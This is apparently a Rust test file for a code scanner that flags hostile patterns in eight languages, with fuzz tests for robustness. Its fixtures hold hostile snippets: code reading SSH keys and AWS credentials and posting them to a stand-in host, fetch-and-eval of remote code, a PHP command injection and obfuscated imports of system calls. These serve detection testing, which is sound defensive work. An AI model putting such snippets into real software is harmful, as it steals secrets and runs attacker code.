//! Flows in small programs of each language, hostile texts, and the bounds.

use defenseclaw_detect::scan::code::{CodeReader as _, Language, SourceFile};
use defenseclaw_model::decision::Severity;
use defenseclaw_model::scan::ScanFinding;
use proptest::prelude::*;
use std::sync::LazyLock;

use crate::CodeGuard;

static GUARD: LazyLock<CodeGuard> = LazyLock::new(|| CodeGuard::embedded().unwrap());

const LANGUAGES: [(Language, &str); 8] = [
    (Language::Python, "a.py"),
    (Language::JavaScript, "a.js"),
    (Language::TypeScript, "a.ts"),
    (Language::Go, "a.go"),
    (Language::Rust, "a.rs"),
    (Language::Java, "a.java"),
    (Language::Php, "a.php"),
    (Language::Ruby, "a.rb"),
];

fn source<'t>(path: &'t str, text: &'t str) -> SourceFile<'t> {
    let ending = path.rsplit('.').next().unwrap();
    SourceFile {
        path,
        line: 1,
        language: Language::of_name(ending).unwrap(),
        text,
    }
}

fn read(files: &[(&str, &str)]) -> Vec<ScanFinding> {
    let files: Vec<_> = files.iter().map(|&(path, text)| source(path, text)).collect();
    GUARD.read(&files)
}

/// The findings from MEDIUM on: rule and line.
fn found(text: &str) -> Vec<(String, u32)> {
    let mut found: Vec<_> = read(&[("a.py", text)])
        .into_iter()
        .filter(|finding| finding.severity >= Severity::Medium)
        .map(|finding| (finding.rule, finding.line))
        .collect();
    found.sort();
    found.dedup();
    found
}

fn rule(name: &str, line: u32) -> Vec<(String, u32)> {
    vec![(name.to_owned(), line)]
}

#[test]
fn the_way_of_a_secret_is_told_through_calls_fields_and_encodings() {
    let text = "import base64, requests\nfrom pathlib import Path\n\nclass A:\n    def __init__(self):\n        \
                self.data = Path.home().joinpath('.ssh', 'id_rsa').read_text()\n    def pack(self):\n        \
                return base64.b64encode(self.data.encode())\n    def go(self):\n        \
                requests.post('https://h.example', data=self.pack())\n\nA().go()\n";
    let findings = read(&[("a.py", text)]);
    let sent = findings.iter().find(|finding| finding.rule == "code.secret-sent");
    let sent = sent.unwrap_or_else(|| panic!("{findings:?}"));
    assert_eq!((sent.line, sent.severity), (10, Severity::Critical));
    assert!(
        sent.message.contains("(line 6)") && sent.message.contains("requests.post (line 10)"),
        "{}",
        sent.message
    );
    assert!(sent.evidence.contains("requests.post"));
}

#[test]
fn a_secret_is_followed_into_a_file_beside() {
    let helper = "import os\nKEYS = os.path.expanduser('~/.aws/credentials')\ndef load():\n    return open(KEYS).read()\n";
    let main = "import requests\nfrom helper import load\ndef send(body):\n    requests.post('https://h.example', json={'b': body})\nsend(load())\n";
    let findings = read(&[("lib/helper.py", helper), ("main.py", main)]);
    let sent = findings.iter().find(|finding| finding.rule == "code.secret-sent");
    let sent = sent.unwrap_or_else(|| panic!("{findings:?}"));
    assert_eq!((sent.file.as_str(), sent.line), ("main.py", 4));
    assert!(sent.message.contains("lib/helper.py line 2"), "{}", sent.message);
    // Without the file that reads, nothing is sent.
    assert!(read(&[("main.py", main)]).is_empty());
}

#[test]
fn what_is_quoted_or_given_as_a_list_is_no_command() {
    let tool = "import subprocess, shlex\n@mcp.tool()\ndef run(name: str):\n";
    assert_eq!(
        found(&format!(
            "{tool}    subprocess.run(f'git log {{name}}', shell=True)\n"
        )),
        rule("code.command-from-tool", 4)
    );
    assert_eq!(
        found(&format!(
            "{tool}    name = shlex.quote(name)\n    subprocess.run(f'git log {{name}}', shell=True)\n"
        )),
        []
    );
    assert_eq!(
        found(&format!("{tool}    subprocess.run(['git', 'log', name])\n")),
        []
    );
    assert_eq!(
        found(&format!("{tool}    subprocess.run(['bash', '-c', name])\n")),
        rule("code.command-from-tool", 4)
    );
    assert_eq!(
        found(&format!(
            "{tool}    cmd = ['git', name]\n    subprocess.run(cmd)\n"
        )),
        []
    );
}

#[test]
fn a_value_that_may_be_there_is_there() {
    let tool = "import os\n@mcp.tool()\ndef run(a, b):\n    c = 'ls'\n";
    assert_eq!(
        found(&format!("{tool}    if b:\n        c = a\n    os.system(c)\n")),
        rule("code.command-from-tool", 7)
    );
    assert_eq!(
        found(&format!(
            "{tool}    if b:\n        c = a\n        c = 'id'\n    os.system(c)\n"
        )),
        []
    );
    assert_eq!(
        found(&format!(
            "{tool}    for x in b:\n        os.system(c)\n        c = c + x\n"
        )),
        rule("code.command-from-tool", 6)
    );
}

#[test]
fn names_that_are_put_together_are_read() {
    for text in [
        "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
        "m = __import__('o' + 's')\n",
        "m = __import__('so'[::-1])\n",
        "import importlib, base64\nm = importlib.import_module(base64.b64decode('c3VicHJvY2Vzcw==').decode())\n",
        "f = globals()[''.join(['ev', 'al'])]\n",
    ] {
        let findings = read(&[("a.py", text)]);
        assert!(
            findings.iter().any(|finding| finding.rule == "code.hidden-name"),
            "{text}: {findings:?}"
        );
    }
    assert_eq!(found("import os\ngetattr(os, 'sep')\n__import__('json')\n"), []);
}

#[test]
fn what_is_too_much_is_told() {
    let big = "x = 1\n".repeat(200_000);
    let findings = read(&[("a.py", &big)]);
    assert_eq!(findings[0].rule, "code.not-read-to-end");
    assert_eq!(findings[0].severity, Severity::Medium);
}

#[test]
fn nothing_is_too_deep() {
    const DEEP: usize = 100_000;
    const LESS: usize = 10_000;
    for (language, path) in LANGUAGES {
        let start = if language == Language::Php { "<?php " } else { "" };
        for (open, close, times) in [
            ("(", ")", DEEP),
            ("[", "]", DEEP),
            ("{", "}", LESS),
            ("a(", ")", LESS),
            ("-", "", LESS),
            ("a.", "", LESS),
            ("f(lambda: ", ")", LESS),
        ] {
            let text = format!("{start}x = {}1{}", open.repeat(times), close.repeat(times));
            let findings = read(&[(path, &text)]);
            assert!(findings.len() < 10, "{path} {open}: {}", findings.len());
        }
        let line = format!("{start}x = \"{}\"", "a".repeat(900_000));
        read(&[(path, &line)]);
    }
}

/// A program of each language that has a finding.
const PROGRAMS: [(&str, &str); 7] = [
    (
        "a.py",
        "import requests\nexec(requests.get('https://h.example/x').text)\n",
    ),
    (
        "a.js",
        "const cp = require('child_process');\nfetch('https://h.example').then(r => r.text()).then(t => eval(t));\n",
    ),
    (
        "a.go",
        "package main\nimport (\"net/http\"; \"os\"; \"strings\")\nfunc main() { d, _ := os.ReadFile(\"/root/.ssh/id_rsa\"); http.Post(\"https://h.example\", \"t\", strings.NewReader(string(d))) }\n",
    ),
    (
        "a.rs",
        "use std::fs;\nfn main() { let d = fs::read_to_string(\"/root/.ssh/id_rsa\").unwrap(); ureq::post(\"https://h.example\").send_string(&d); }\n",
    ),
    (
        "a.java",
        "class A { void a() throws Exception { String s = new String(new URL(\"https://h.example\").openStream().readAllBytes()); Runtime.getRuntime().exec(s); } }\n",
    ),
    ("a.php", "<?php $c = $_GET['c']; system('ls ' . $c);\n"),
    (
        "a.rb",
        "require 'net/http'\neval(Net::HTTP.get(URI('https://h.example/x')))\n",
    ),
];

#[test]
fn each_language_is_read() {
    for (path, text) in PROGRAMS {
        let findings = read(&[(path, text)]);
        assert!(
            findings.iter().any(|finding| finding.severity >= Severity::High),
            "{path}: {findings:?}"
        );
    }
}

#[test]
fn what_stands_behind_a_mistake_is_read() {
    let text =
        "x = = 1\ndef a(x, 1):\n    pass\nimport requests\nexec(requests.get('https://h.example/x').text)\n";
    assert_eq!(found(text), rule("code.remote-code", 5));
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(text in ".{0,400}", which in 0_usize..8) {
        read(&[(LANGUAGES[which].1, &text)]);
    }

    #[test]
    fn words_of_programs_in_any_order_do_not_make_it_panic(
        words in prop::collection::vec(prop::sample::select(vec![
            "def ", "class ", "fn ", "func ", "function ", "(", ")", "{", "}", "[", "]", "=", "x", "self", ".", ",", ":", "\n", "    ",
            "'a'", "\"b\"", "`${", "}`", "if ", "for ", "in ", "return ", "import ", "from ", "=>", "<?php ", "$x", "@tool\n", "+", "lambda ",
            "os.environ", "requests.post", "use ", "::", "|", "do ", "end\n", "<<EOF\n", "EOF\n", "//", "#",
        ]), 0..120),
        which in 0_usize..8,
    ) {
        read(&[(LANGUAGES[which].1, &words.concat())]);
    }

    #[test]
    fn programs_that_are_cut_do_not_make_it_panic(which in 0_usize..7, cut in 0_usize..400, insert in ".{0,3}") {
        let (path, text) = PROGRAMS[which];
        let cut = text.floor_char_boundary(cut.min(text.len()));
        read(&[(path, &format!("{}{insert}", &text[..cut]))]);
        read(&[(path, &format!("{}{insert}{}", &text[..cut], &text[cut..]))]);
    }
}
